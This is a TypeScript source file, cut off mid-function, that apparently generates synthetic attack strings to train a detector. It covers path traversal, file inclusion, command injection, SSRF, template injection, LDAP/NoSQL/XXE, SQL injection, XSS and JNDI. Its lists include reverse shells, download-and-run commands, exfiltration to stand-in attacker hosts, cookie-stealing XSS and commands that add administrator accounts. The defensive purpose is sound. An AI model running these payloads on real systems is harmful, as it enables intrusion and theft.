/**
 * Attacks built from grammar rather than taken from a list: each injection class is a product of the
 * parts an attacker combines (boundary × core × encoding × target), so the model learns the shape of
 * a traversal or a command injection, not the exact strings of the shared corpora. Written from the
 * attack classes' public descriptions (dot-dot-slash encodings, IIS overlong UTF-8, IP address
 * notations, template engines' object graphs), not from any payload list.
 */
import { seededRandom } from '../prng.js';

type Random = () => number;
export interface SynthesizedAttack {
  text: string;
  category: string;
}

function pick<T>(items: readonly T[], random: Random): T {
  return items[Math.floor(random() * items.length)];
}

function int(random: Random, min: number, max: number): number {
  return min + Math.floor(random() * (max - min + 1));
}

function maybe(random: Random, p: number, text: string): string {
  return random() < p ? text : '';
}

// ---------------------------------------------------------------------------------------------
// Hosts an attacker points a request at: names, and the notations of one IPv4 address that URL
// parsers accept (integer, hex, octal, mixed, IPv6-mapped).

const NAME_PARTS = ['evil', 'attacker', 'oast', 'collab', 'burp', 'pwn', 'exfil', 'c2', 'rbnd', 'xss', 'test', 'callback', 'x1', 'malware'];
const TLDS = ['com', 'net', 'org', 'io', 'xyz', 'tk', 'ru', 'cn', 'me', 'site', 'fun'];

function hostName(random: Random): string {
  const name = `${pick(NAME_PARTS, random)}${maybe(random, 0.4, String(int(random, 1, 999)))}`;
  return `${maybe(random, 0.3, `${pick(['www', 'x', 'a', 'cdn', 'dl'], random)}.`)}${name}.${pick(TLDS, random)}`;
}

function ipv4Notation(random: Random): string {
  const o = [int(random, 1, 223), int(random, 0, 255), int(random, 0, 255), int(random, 1, 254)];
  const n = ((o[0] << 24) >>> 0) + (o[1] << 16) + (o[2] << 8) + o[3];
  switch (int(random, 0, 7)) {
    case 0:
      return o.join('.');
    case 1:
      return String(n);
    case 2:
      return `0x${n.toString(16)}`;
    case 3:
      return o.map((x) => `0x${x.toString(16).padStart(2, '0')}`).join('.');
    case 4:
      return o.map((x) => `0${x.toString(8)}`).join('.');
    case 5:
      return `${o[0]}.${(o[1] << 16) + (o[2] << 8) + o[3]}`;
    case 6:
      return `[::ffff:${o.join('.')}]`;
    default:
      return pick(['127.0.0.1', 'localhost', '0', '127.1', '[::1]', '0177.0.0.1', '2130706433', '169.254.169.254', '0.0.0.0'], random);
  }
}

/** Only the notations no one types by hand (integer, hex, octal, mixed, IPv6-mapped): a dotted private IP or localhost is an everyday value. */
function unusualIpv4(random: Random): string {
  for (;;) {
    const ip = ipv4Notation(random);
    if (!/^(?:\d{1,3}\.){3}\d{1,3}$/.test(ip) && !/^(?:localhost|127\.0\.0\.1|0\.0\.0\.0)$/.test(ip)) return ip;
  }
}

function anyHost(random: Random): string {
  return random() < 0.6 ? hostName(random) : ipv4Notation(random);
}

function url(random: Random): string {
  return `${pick(['http', 'https'], random)}://${anyHost(random)}${maybe(random, 0.2, `:${int(random, 1, 65535)}`)}/${pick(['', 'x', 'a.txt', 's.sh', 'shell.php', 'p.exe', 'x.js', '?c='], random)}`;
}

// ---------------------------------------------------------------------------------------------
// Path traversal and file inclusion.

/** Ways to write one `.`: plain, percent, double percent, overlong UTF-8 (2- to 6-byte, masked), %u, hex text. */
const DOT = ['.', '.', '.', '%2e', '%2E', '%252e', '%c0%2e', '%c0%ae', '%c0%6e', '%e0%80%ae', '%f0%80%80%ae', '%f8%80%80%80%ae', '%fc%80%80%80%80%ae', '%u002e', '%uff0e', '0x2e', '%%32%%65', '%25c0%25ae', '%25%32%65', '%c0%fe', '%e0%40%ae'];
const SLASH = ['/', '/', '/', '%2f', '%2F', '%252f', '%c0%af', '%c0%2f', '%e0%80%af', '%f0%80%80%af', '%f8%80%80%80%af', '%u2215', '%uefc8', '%uf025', '0x2f', '%%32%%66', '%25c0%25af', '%c1%af', '//', '/./'];
const BACKSLASH = ['\\', '\\', '%5c', '%5C', '%255c', '%c1%9c', '%c1%1c', '%c0%5c', '%e0%81%9c', '%u2216', '%u005c', '0x5c', '%%35%%63', '%25c1%259c', '\\\\'];

function dotDot(random: Random): string {
  const style = random();
  if (style < 0.1) return pick(['....', '...', '.%00.', '..%00', '.. ', '..;', '..%20', '.%2e', '%2e.'], random);
  const a = pick(DOT, random);
  return random() < 0.7 ? a + a : a + pick(DOT, random);
}

const UNIX_FILES = [
  'etc/passwd', 'etc/shadow', 'etc/group', 'etc/hosts', 'etc/hostname', 'etc/issue', 'etc/motd', 'etc/fstab', 'etc/crontab', 'etc/sudoers',
  'etc/resolv.conf', 'etc/os-release', 'etc/profile', 'etc/inittab', 'etc/ssh/sshd_config', 'etc/mysql/my.cnf', 'etc/my.cnf', 'etc/php.ini',
  'etc/apache2/apache2.conf', 'etc/httpd/conf/httpd.conf', 'etc/nginx/nginx.conf', 'etc/nginx/sites-enabled/default', 'etc/network/interfaces',
  'etc/security/passwd', 'etc/master.passwd', 'etc/samba/smb.conf', 'etc/redis/redis.conf', 'etc/tomcat/tomcat-users.xml', 'etc/init.d/apache2',
  'proc/self/environ', 'proc/self/cmdline', 'proc/self/status', 'proc/self/maps', 'proc/self/stat', 'proc/self/cwd/index.php', 'proc/version',
  'proc/cpuinfo', 'proc/meminfo', 'proc/mounts', 'proc/net/tcp', 'proc/net/arp', 'proc/sched_debug', 'root/.bash_history', 'root/.ssh/id_rsa',
  'root/.ssh/authorized_keys', 'root/.mysql_history', 'var/log/apache2/access.log', 'var/log/apache2/error.log', 'var/log/httpd/access_log',
  'var/log/nginx/access.log', 'var/log/nginx/error.log', 'var/log/auth.log', 'var/log/syslog', 'var/log/messages', 'var/log/secure',
  'var/log/mail.log', 'var/log/lastlog', 'var/log/wtmp', 'var/run/utmp', 'var/mail/root', 'var/spool/cron/crontabs/root',
  'var/www/html/index.php', 'var/www/html/wp-config.php', 'var/www/html/.htaccess', 'usr/local/apache2/conf/httpd.conf', 'usr/local/etc/php.ini',
  'usr/local/etc/nginx/nginx.conf', 'opt/lampp/etc/httpd.conf', 'home/user/.bash_history', 'home/ubuntu/.ssh/id_rsa', 'dev/null', 'bin/sh',
];
const WINDOWS_FILES = [
  'windows/win.ini', 'windows/system.ini', 'windows/system32/drivers/etc/hosts', 'windows/system32/config/SAM', 'windows/system32/config/system',
  'windows/repair/sam', 'windows/repair/system', 'windows/panther/unattend.xml', 'windows/panther/unattended.xml', 'windows/debug/netsetup.log',
  'windows/windowsupdate.log', 'windows/system32/inetsrv/config/applicationHost.config', 'windows/system32/license.rtf', 'winnt/win.ini',
  'winnt/system32/cmd.exe', 'boot.ini', 'autoexec.bat', 'inetpub/wwwroot/web.config', 'inetpub/logs/LogFiles/W3SVC1/u_ex220101.log',
  'xampp/apache/conf/httpd.conf', 'xampp/php/php.ini', 'xampp/apache/logs/access.log', 'program files/mysql/my.ini', 'apache/logs/error.log',
  'php/php.ini', 'users/administrator/ntuser.dat', 'documents and settings/administrator/desktop/desktop.ini', 'windows/system32/cmd.exe',
];
const APP_FILES = [
  'WEB-INF/web.xml', 'WEB-INF/classes/application.properties', 'WEB-INF/classes/hibernate.cfg.xml', 'META-INF/MANIFEST.MF', '.env', '.git/config',
  '.git/HEAD', '.svn/entries', '.htpasswd', '.htaccess', 'config/database.yml', 'config/secrets.yml', 'wp-config.php', 'app/etc/local.xml',
  'app/config/parameters.yml', 'config.php', 'configuration.php', 'settings.py', '.aws/credentials', '.docker/config.json', '.ssh/id_rsa',
  'conf/server.xml', 'conf/tomcat-users.xml', 'application.yml', 'appsettings.json', 'web.config', 'index.php', 'admin/config.inc.php',
];
/** Services whose config and log files are classic inclusion targets; combined with dirs and extensions to go beyond any list. */
const SERVICES = ['apache', 'apache2', 'httpd', 'nginx', 'mysql', 'mariadb', 'postgresql', 'redis', 'tomcat', 'jboss', 'php', 'php-fpm', 'vsftpd', 'proftpd', 'cups', 'samba', 'slapd', 'sshd', 'cron', 'named', 'dovecot', 'postfix', 'squid', 'snmp', 'haproxy', 'varnish', 'docker', 'mongod', 'lighttpd', 'exim'];

function sensitiveFile(random: Random, serviceShare = 0.25): { path: string; windows: boolean } {
  const r = random() * (0.75 + serviceShare);
  if (r < 0.4) return { path: pick(UNIX_FILES, random), windows: false };
  if (r < 0.6) return { path: pick(WINDOWS_FILES, random), windows: true };
  if (r < 0.75) return { path: pick(APP_FILES, random), windows: false };
  const svc = pick(SERVICES, random);
  const dir = pick(['etc', 'etc', 'var/log', 'usr/local/etc', 'opt', 'usr/local', 'var/lib', 'srv'], random);
  const file = pick([`${svc}.conf`, `${svc}.cnf`, `${svc}.ini`, `${svc}.log`, 'access.log', 'error.log', 'access_log', 'error_log', `${svc}.xml`, 'config.xml', 'conf/server.xml', `${svc}.yml`], random);
  return { path: `${dir}/${svc}/${file}${maybe(random, 0.1, `.${int(random, 0, 9)}`)}`, windows: false };
}

function withSeparators(path: string, sep: string): string {
  return sep === '/' ? path : path.replace(/\//g, sep);
}

function fileTail(random: Random): string {
  return random() < 0.75 ? '' : pick(['%00', '%00.html', '%00.jpg', '%2500', '\u0000', '\u0000.png', '?', '%3f', '.', '/.', '%20', '::$DATA', '#', ';.js', '%0a'], random);
}

/** `<lead><dotdot sep> × depth<file>[tail]` over the encodings of every character. */
function traversalSteps(random: Random): string {
  const file = sensitiveFile(random);
  const windowsish = file.windows ? random() < 0.7 : random() < 0.15;
  const sep = pick(windowsish ? BACKSLASH : SLASH, random);
  const depth = int(random, 1, 12);
  let steps = '';
  const mixed = random() < 0.15;
  for (let i = 0; i < depth; i++) steps += dotDot(random) + (mixed ? pick(windowsish ? BACKSLASH : SLASH, random) : sep);
  const lead = random() < 0.6 ? '' : pick(['/', '\\', './', 'static/', 'images/', 'files/', 'uploads/', 'c:\\', 'C:/', '/var/www/', 'index.php?page=', 'x/', '....//', '..././', '/./'], random);
  const target = random() < 0.75 ? withSeparators(file.path, sep) : withSeparators(file.path, random() < 0.5 ? '/' : '\\');
  return `${lead}${steps}${target}${fileTail(random)}`;
}

/** Absolute paths and URL wrappers straight to a file: local file inclusion needs no dots. */
function fileInclusion(random: Random): string {
  // Without dot-dot steps only well-known files: `/etc/<anything>.conf` alone is too close to a file manager's values.
  const file = sensitiveFile(random, 0.08);
  switch (int(random, 0, 5)) {
    case 0:
    case 1:
      return file.windows
        ? `${pick(['C:\\', 'c:\\', 'C:/', 'c:/', 'D:\\', '\\', '/', 'file:///c:/'], random)}${withSeparators(file.path, pick(['\\', '/'], random))}${fileTail(random)}`
        : `${pick(['/', '/', '//', 'file://', 'file:///', '/./', '\\'], random)}${file.path}${fileTail(random)}`;
    case 2:
      return `php://filter/${pick(['convert.base64-encode', 'read=convert.base64-encode', 'read=string.rot13', 'string.toupper|string.rot13', 'convert.iconv.utf-8.utf-16', 'zlib.deflate/convert.base64-encode'], random)}/resource=${pick([file.path, `/${file.path}`, 'index.php', 'config.php', '../config.php'], random)}`;
    case 3:
      return pick(
        [`expect://${pick(['id', 'ls', 'whoami', 'uname -a'], random)}`, 'php://input', `data://text/plain;base64,${pick(['PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+', 'PD9waHAgcGhwaW5mbygpOz8+'], random)}`, `zip://uploads/${pick(['a', 'x', 'img'], random)}.zip%23shell.php`, `phar://uploads/${pick(['a', 'x'], random)}.jpg/shell`, `file:///${file.path}`, `${url(random)}shell.txt?`, `//${anyHost(random)}/share/x.php`],
        random,
      );
    case 4:
      return `/${withSeparators(file.path, pick(['/%2f', '//', '/./', '%2f'], random))}${fileTail(random)}`;
    default:
      return `${pick(['', '/', 'file:', 'file://'], random)}${'/'.repeat(int(random, 0, 2))}${file.path.replace(/\//g, () => pick(['/', '//', '/./', '/x/../'], random))}${fileTail(random)}`;
  }
}

// ---------------------------------------------------------------------------------------------
// Command injection.

const UNIX_COMMANDS: readonly ((r: Random) => string)[] = [
  () => 'id', () => 'whoami', () => 'uname -a', () => 'uname', () => 'hostname', () => 'pwd', () => 'ls -la', () => 'ls -al /', () => 'ps aux', () => 'env',
  () => 'printenv', () => 'ifconfig', () => 'ip addr', () => 'netstat -an', () => 'cat /etc/passwd', () => 'cat /etc/shadow', () => 'cat /etc/hosts',
  (r) => `${pick(['/bin/', '/usr/bin/', '/bin/', ''], r)}${pick(['id', 'ls', 'cat /etc/passwd', 'whoami', 'uname -a', 'sh', 'bash'], r)}`,
  (r) => `sleep ${int(r, 1, 30)}`, (r) => `ping -c ${int(r, 1, 20)} ${anyHost(r)}`, (r) => `ping -n ${int(r, 1, 20)} ${ipv4Notation(r)}`,
  (r) => `ping -i ${int(r, 1, 30)} 127.0.0.1`, (r) => `nslookup ${hostName(r)}`, (r) => `dig ${hostName(r)}`, (r) => `curl ${url(r)}`,
  (r) => `curl -d @/etc/passwd ${url(r)}`, (r) => `wget ${url(r)} -O /tmp/${pick(['x', 's.sh', '.a'], r)}`, (r) => `wget -q -O- ${url(r)} | sh`,
  (r) => `nc -e /bin/sh ${anyHost(r)} ${int(r, 1024, 65535)}`, (r) => `nc ${anyHost(r)} ${int(r, 1024, 65535)} -e /bin/bash`,
  (r) => `bash -i >& /dev/tcp/${ipv4Notation(r)}/${int(r, 1024, 65535)} 0>&1`, (r) => `rm -rf /tmp/${pick(['x', 'f', '*'], r)}`,
  (r) => `echo ${pick(['pwned', 'vulnerable', 'test', '$((7*7))', '${PATH}'], r)}`, (r) => `perl -e 'print "X"x${int(r, 64, 20000)}'`,
  (r) => `python -c 'import os;os.system("${pick(['id', 'ls', 'whoami'], r)}")'`, (r) => `php -r 'system("${pick(['id', 'ls'], r)}");'`,
  (r) => `ruby -e '\`${pick(['id', 'ls'], r)}\`'`, (r) => `touch /tmp/${pick(['pwned', 'x', 'owned'], r)}`, (r) => `chmod +x /tmp/${pick(['x', 's'], r)}`,
  () => 'mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f', (r) => `echo ${pick(['aWQ=', 'Y2F0IC9ldGMvcGFzc3dk'], r)}|base64 -d|sh`,
  () => 'cat$IFS/etc/passwd', () => '{cat,/etc/passwd}', () => 'sh -c id', () => 'crontab -l', () => 'last', () => 'w', () => 'uptime',
];
const WINDOWS_COMMANDS: readonly ((r: Random) => string)[] = [
  () => 'dir', () => 'dir c:\\', () => 'type c:\\windows\\win.ini', (r) => `type %SYSTEMROOT%\\${pick(['win.ini', 'repair\\SAM', 'system32\\drivers\\etc\\hosts'], r)}`,
  () => 'systeminfo', () => 'tasklist', () => 'ipconfig /all', () => 'whoami /all', () => 'whoami /priv', () => 'net user', () => 'ver', () => 'set',
  (r) => `net user ${pick(['hacker', 'admin2', 'x'], r)} ${pick(['P@ss1', 'pass123', 'x'], r)} /add`, (r) => `net localgroup administrators ${pick(['hacker', 'x'], r)} /add`,
  () => 'netsh firewall set opmode disable', () => 'netsh advfirewall set allprofiles state off',
  () => 'reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f', () => 'reg query HKLM\\SAM',
  (r) => `certutil -urlcache -split -f ${url(r)}x.exe`, (r) => `bitsadmin /transfer j ${url(r)}x.exe c:\\x.exe`,
  (r) => `powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('${url(r)}')"`, () => 'powershell -enc SQBFAFgA', (r) => `cmd /c ${pick(['dir', 'whoami', 'ver'], r)}`,
  () => 'wmic process list', (r) => `ping -n ${int(r, 2, 30)} 127.0.0.1`, () => 'echo %USERNAME%', () => 'copy %COMSPEC% c:\\x.exe',
];
const SEPARATORS = [';', ';', '|', '||', '&', '&&', '\n', '\r\n', '%0a', '%0d%0a', '%3b', '%7c', '%26', '\u0000'];

function commandInjection(random: Random): string {
  const cmd = pick(random() < 0.72 ? UNIX_COMMANDS : WINDOWS_COMMANDS, random)(random);
  const quote = random() < 0.3 ? pick(["'", '"'], random) : '';
  const prefix = pick(['', '', '', '1', '127.0.0.1', 'x', 'test', 'a.txt', 'foo@example.com', '80', 'localhost'], random) + quote;
  let body: string;
  switch (int(random, 0, 6)) {
    case 0:
      body = `\`${cmd}\``;
      break;
    case 1:
      body = `$(${cmd})`;
      break;
    case 2: {
      const sep = pick(SEPARATORS, random);
      body = `${sep}${cmd}${sep}`;
      break;
    }
    case 3:
      body = random() < 0.5 ? cmd : ` ${cmd} `;
      break;
    default:
      body = `${pick(SEPARATORS, random)}${maybe(random, 0.3, ' ')}${cmd}`;
  }
  if (random() < 0.15) body = body.replace(/ /g, pick(['${IFS}', '$IFS$9', '\t', '%09', '%20', '+', '<'], random));
  const tail = pick(['', '', '', quote, ` ${quote}`, ' #', ';', '|', '&', ' //', ` ${pick(SEPARATORS, random)}`], random);
  return `${prefix}${body}${tail}`;
}

// ---------------------------------------------------------------------------------------------
// Open redirect / SSRF destinations: the parser-confusing shapes, never a plain absolute URL (which
// is an everyday value).

function openRedirect(random: Random): string {
  const h = random() < 0.6 ? hostName(random) : unusualIpv4(random);
  const trusted = pick(['trusted.example', 'www.example.com', 'login.example.org', 'whitelisted.example'], random);
  const dotted = random() < 0.1 ? h.replace(/\./g, pick(['%E3%80%82', '。', '%2e'], random)) : h;
  return pick(
    [
      `//${dotted}`, `//${dotted}/`, `///${dotted}`, `////${dotted}/`, `/\\${dotted}`, `\\/${dotted}`, `\\\\${dotted}`, `/%09/${dotted}`, `/%5c${dotted}`,
      `//${dotted}/%2f..`, `//${dotted}/%2f%2e%2e`, `//${dotted}%2f%2e%2e`, `/%2f%2f${dotted}`, `https:${dotted}`, `http:/${dotted}`, `http:\\\\${dotted}`,
      `https:/\\${dotted}`, `//${trusted}@${dotted}`, `https://${trusted}@${dotted}/`, `http://${trusted}%40${dotted}`, `//${dotted}#${trusted}`,
      `//${dotted}?${trusted}`, `//${dotted}\\@${trusted}`, `https://${trusted}.${dotted}/`, `/https://${dotted}`, `//https://${dotted}//`,
      `https://%09/${dotted}`, `/%0d/${dotted}`, `/.${dotted}`, `/${pick(['redirect', 'login', 'out'], random)}?url=//${dotted}`, `http:${dotted}@${trusted}`,
      `${pick(['http', 'https'], random)}://${pick(['', 'a:b@', `${trusted}@`], random)}${unusualIpv4(random)}`, `http://${trusted}%2f@${dotted}`,
      `${pick(['javascript', 'JavaScript', 'java%0ascript', 'javascript%09'], random)}:${pick(['alert(1)', '//%0aalert(1)', 'confirm(document.domain)'], random)}`,
      `data:text/html;base64,${pick(['PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'], random)}`,
    ],
    random,
  );
}

// ---------------------------------------------------------------------------------------------
// Server-side template injection.

function arithmetic(random: Random): string {
  const a = int(random, 2, 99);
  const b = int(random, 2, 99);
  return pick([`${a}*${b}`, `${a}*'${b}'`, `${a}+${b}`, `${a}*${b}*${int(random, 2, 9)}`, `'${a}'*${b}`, `${a}-${b}`], random);
}

const WALK_STARTS = ["''", '""', '[]', '()', 'request', 'self', 'config', 'lipsum', 'cycler', 'joiner', 'namespace', 'url_for', 'get_flashed_messages', 'g', 'application', '_self', 'app', 'this', 'range', 'dict'];
const WALK_STEPS = [
  '__class__', '__mro__[1]', '__mro__[2]', '__base__', '__bases__[0]', '__subclasses__()', `__subclasses__()[${0}]`, '__init__', '__globals__', '__builtins__',
  "__globals__['os']", "__import__('os')", 'os', "popen('id')", 'read()', 'class', 'base', 'mro()', 'subclasses()', 'getClass()', 'forName("java.lang.Runtime")',
  'getRuntime()', "exec('id')", '_TemplateReference__context', 'env', 'environment', 'registerUndefinedFilterCallback("exec")', 'getFilter("id")', 'constructor',
  'constructor("return process")()', 'mainModule', "require('child_process')", "execSync('id')", 'items()', 'request', 'application', 'server', 'all',
];

function objectWalk(random: Random): string {
  let s = pick(WALK_STARTS, random);
  const n = int(random, 1, 5);
  for (let i = 0; i < n; i++) {
    const step = pick(WALK_STEPS, random).replace('[0]', `[${int(random, 0, 450)}]`);
    const style = random();
    if (style < 0.7 || !/^[_a-z]+$/i.test(step)) s += `.${step}`;
    else if (style < 0.85) s += `['${step}']`;
    else s += `|attr(${pick([`'${step}'`, `"${step}"`, `["_"*2,"${step.replace(/_/g, '')}","_"*2]|join`, 'request.args.x'], random)})`;
  }
  return s;
}

function templateInjection(random: Random): string {
  const expr = random() < 0.45 ? arithmetic(random) : objectWalk(random);
  switch (int(random, 0, 9)) {
    case 0:
    case 1:
    case 2:
      return `{{${maybe(random, 0.3, ' ')}${expr}${maybe(random, 0.3, ' ')}}}`;
    case 3:
      return `\${${expr}}`;
    case 4:
      return `#{${expr}}`;
    case 5:
      return pick([`<%= ${expr} %>`, `<%=${expr}%>`, `\${{${expr}}}`, `[[\${${expr}}]]`, `*{${expr}}`, `@(${expr})`, `{${arithmetic(random)}}`, `{{=${expr}}}`, `%{${expr}}`], random);
    case 6:
      return pick(
        ["{% for c in [].__class__.__base__.__subclasses__() %}{{ c.__name__ }}{% endfor %}", '{% debug %}', "{% import os %}{{ os.popen('id').read() }}", '{$smarty.version}', '{php}echo `id`;{/php}', "{system('id')}", '{{dump(app)}}', "{{app.request.server.all|join(',')}}", "{{['id']|filter('system')}}", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"],
        random,
      );
    case 7:
      return pick(
        ['${T(java.lang.Runtime).getRuntime().exec(\'id\')}', '#{T(java.lang.System).getenv()}', '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', '${"freemarker.template.utility.Execute"?new()("id")}', '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))', '<%= system("id") %>', "<%= File.open('/etc/passwd').read %>", "<%= `id` %>", '${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve(\'/etc/passwd\')}', "#{ 7 * 7 }", '{{#with "s" as |string|}}{{#with "e"}}{{/with}}{{/with}}', "${{<%[%'\"}}%\\."],
        random,
      );
    default:
      return `${pick(['', 'a', 'name', 'hello '], random)}{{${objectWalk(random)}}}`;
  }
}

// ---------------------------------------------------------------------------------------------
// Query languages: LDAP filters, NoSQL operators, XML entities and XPath.

const LDAP_ATTRS = ['uid', 'cn', 'sn', 'mail', 'objectClass', 'userPassword', 'givenName', 'memberOf', 'sAMAccountName', 'description', 'ou', 'telephoneNumber'];

function ldapInjection(random: Random): string {
  const a = pick(LDAP_ATTRS, random);
  const b = pick(LDAP_ATTRS, random);
  const v = pick(['*', 'admin', 'admin*', '*admin*', 'x', '1'], random);
  return pick(
    [`${v})(${a}=*))(|(${b}=*`, `*)(${a}=*)`, `${v})(|(${a}=*)`, `${v})(&(${a}=*))`, `*))%00`, `${v}*)(|(${a}=*`, `*)(|(${a}=*))`, `${v})(!(${a}=*))`, `(|(${a}=*)(${b}=*))`, `${v}))(|(${a}=*`, `*()|&'`, `${v})(${a}>=0)`, `${v})(&)`],
    random,
  );
}

function nosqlInjection(random: Random): string {
  const op = pick(['$ne', '$gt', '$gte', '$lt', '$regex', '$exists', '$nin', '$in', '$where', '$or', '$expr'], random);
  const v = pick(['""', 'null', '1', '""', '".*"', 'true', '[]', '"^a"'], random);
  return pick(
    [
      `{"${op}": ${v}}`, `{"${pick(['username', 'user', 'login', 'email', 'password'], random)}": {"${op}": ${v}}}`, `[${op}]=${v.replace(/"/g, '')}`, `{${op}: ''}`,
      `'; return true; var x='`, `' || '1'=='1`, `' || 1==1//`, `'; sleep(${int(random, 100, 5000)}); var x='`, `' && this.password.match(/.*/)//+%00`,
      `{"$where": "sleep(${int(random, 100, 5000)})"}`, `{"$where": "this.${pick(['password', 'role', 'token'], random)}.length > 0"}`, `true, $where: '1 == 1'`,
      `{"$or": [{}, {"a": "a"}]}`, `db.${pick(['users', 'stores', 'injection'], random)}.find()`, `';return db.users.find();'`, `0;return true`,
      `db.injection.insert({success:1});return 1;db.stores.mapReduce(function() { { emit(1,1`, `{"$gt": ""}`, `{"&exists":false}`,
    ],
    random,
  );
}

function xmlInjection(random: Random): string {
  const file = sensitiveFile(random).path;
  const name = pick(['xxe', 'x', 'foo', 'file', 'ent', 'data', 'systemEntity'], random);
  const uri = pick([`file:///${file}`, `${url(random)}evil.dtd`, `php://filter/convert.base64-encode/resource=/${file}`, `expect://id`, `jar:${url(random)}x.zip!/a`, `netdoc:/${file}`, `/${file}`, 'robots.txt'], random);
  const root = pick(['foo', 'root', 'r', 'data', 'x', 'test', 'svg'], random);
  return pick(
    [
      `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY ${name} SYSTEM "${uri}">]><${root}>&${name};</${root}>`,
      `<!DOCTYPE ${root} [<!ENTITY % ${name} SYSTEM "${uri}"> %${name};]>`,
      `<!ENTITY ${name} SYSTEM "${uri}">`, `<!DOCTYPE ${root} SYSTEM "${uri}">`, `<!DOCTYPE ${root} PUBLIC "-//X//Y" "${uri}">`,
      `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="${uri}"/>`,
      `<!DOCTYPE ${root} [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><${root}>&b;</${root}>`,
      `<${root}>&${name};</${root}>`, `<xsl:value-of select="system-property('xsl:vendor')"/>`, `<![CDATA[<]]>script<![CDATA[>]]>alert(1)<![CDATA[<]]>/script<![CDATA[>]]>`,
      `' or '1'='1`, `' or name()='${pick(['username', 'user', 'password'], random)}' or 'x'='y`, `count(/child::node())`, `'] | //* | //*['`, `x' or 1=1 or 'x'='y`,
    ],
    random,
  );
}

// ---------------------------------------------------------------------------------------------
// SQL injection, XSS, JNDI and other code injection (unchanged shapes from the first model).

const SQL_CORES = [
  'or 1=1', 'and 1=2', 'or 2>1', 'and sleep(5)', 'or sleep(5)', 'and 1=(select 1 from dual)', 'union select null,null',
  'union all select 1,2,3', 'order by 5', 'and extractvalue(1,concat(0x7e,version()))', "or 'a'='a", 'and (select count(*) from users)>0',
  "waitfor delay '0:0:5'", 'and benchmark(5000000,md5(1))', 'or pg_sleep(5) is null', 'and updatexml(1,concat(0x7e,user()),1)',
  'having 1=1', 'group by 1,2', "and substring(@@version,1,1)='5'", 'or exists(select * from users)',
];

function sqlInjection(random: Random): string {
  const n = int(random, 1, 9000);
  const value = pick([String(n), `-${n}`, 'abc', '', 'admin'], random);
  const quote = pick(['', "'", '"', '%'], random);
  const parens = ')'.repeat(int(random, 0, 2));
  const alias = random() < 0.2 ? ` as ${pick(['a', 'x', 't1', 'q'], random)}` : '';
  const core = random() < 0.5 ? pick(SQL_CORES, random) : pick(SQL_CORES, random).replace(/\b\d+\b/g, () => String(int(random, 0, 9998)));
  const tail = pick(['', '--', '-- -', '#', '/*', ` and ${quote}${n}${quote}=${quote}${n}`, ';--'], random);
  const sep = pick([' ', ' ', '/**/', '+', '%20'], random);
  return `${value}${quote}${parens}${alias}${sep}${core.replace(/ /g, sep)}${tail}`;
}

const XSS_TAGS = ['img', 'svg', 'body', 'iframe', 'details', 'video', 'audio', 'input', 'a', 'div', 'marquee', 'object', 'math', 'style', 'select', 'textarea', 'embed', 'form', 'isindex', 'x', 'button', 'keygen', 'frameset', 'table', 'meta'];
const XSS_EVENTS = ['error', 'load', 'focus', 'mouseover', 'toggle', 'click', 'begin', 'pointerenter', 'animationstart', 'focusin', 'blur', 'start', 'mouseenter', 'keydown', 'transitionend', 'scroll', 'pageshow', 'hashchange', 'auxclick', 'beforetoggle'];
const XSS_JS = ['alert(1)', 'prompt(1)', 'confirm`1`', "eval(atob('YWxlcnQoMSk='))", "fetch('//x.example/?c='+document.cookie)", "top['al'+'ert'](1)", 'alert(document.domain)', 'print()', 'location=`javascript:alert(1)`', 'import(`//x.example/m.js`)', 'alert(String.fromCharCode(88,83,83))', 'document.write(1)', 'window.onerror=alert;throw 1', 'new Image().src="//x.example/"+document.cookie'];

function xss(random: Random): string {
  const js = pick(XSS_JS, random);
  const tag = pick(XSS_TAGS, random);
  const q = pick(['', '"', "'"], random);
  const sep = pick([' ', '/', '\t', '%0a', ' ', '%09', '\n'], random);
  const breakout = pick(['', '">', "'>", '</textarea>', '</title>', '-->', '</script>', '">\'>', '</style>'], random);
  switch (int(random, 0, 5)) {
    case 0:
      return `${breakout}<${tag}${sep}src=x${sep}on${pick(XSS_EVENTS, random)}=${q}${js}${q}>`;
    case 1:
      return `${breakout}<${tag}${sep}on${pick(XSS_EVENTS, random)}=${q}${js}${q}${maybe(random, 0.5, ' autofocus')}>`;
    case 2:
      return `${pick(['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:', 'javascript&colon;', 'jav&#x09;ascript:'], random)}${js}`;
    case 3:
      return `${breakout}<script${maybe(random, 0.2, ' src=//x.example/x.js')}>${js}</script>`;
    case 4:
      return `${breakout}<${pick(['a', 'iframe', 'embed', 'object', 'form'], random)} ${pick(['href', 'src', 'data', 'action'], random)}=${q}javascript:${js}${q}>${maybe(random, 0.5, 'x')}`;
    default:
      return `${pick(["'", '"'], random)}${pick(['-', ';', '+'], random)}${js}${pick(['-', ';//', '+'], random)}${pick(["'", '"'], random)}`;
  }
}

function jndi(random: Random): string {
  const proto = pick(['ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'corba', 'nis', 'nds', 'http'], random);
  const j = pick(['jndi', '${lower:j}ndi', '${::-j}${::-n}${::-d}${::-i}', '${env:NOPE:-j}ndi', 'j${::-n}di', '${upper:j}${upper:n}${lower:d}${lower:i}'], random);
  const sep = pick([':', '${::-:}'], random);
  const host = pick([hostName(random), '${hostName}.' + hostName(random), `${ipv4Notation(random)}:1389`, `x.\${env:USER}.${hostName(random)}`], random);
  return `${pick(['', '', 'x', 'Mozilla/5.0 '], random)}\${${j}${sep}${proto}://${host}/${pick(['a', 'Exploit', 'o=tomcat', ''], random)}}`;
}

function codeInjection(random: Random): string {
  const cmd = pick(['id', '/bin/cat /etc/passwd', `curl ${hostName(random)}`, 'whoami'], random);
  return pick(
    [
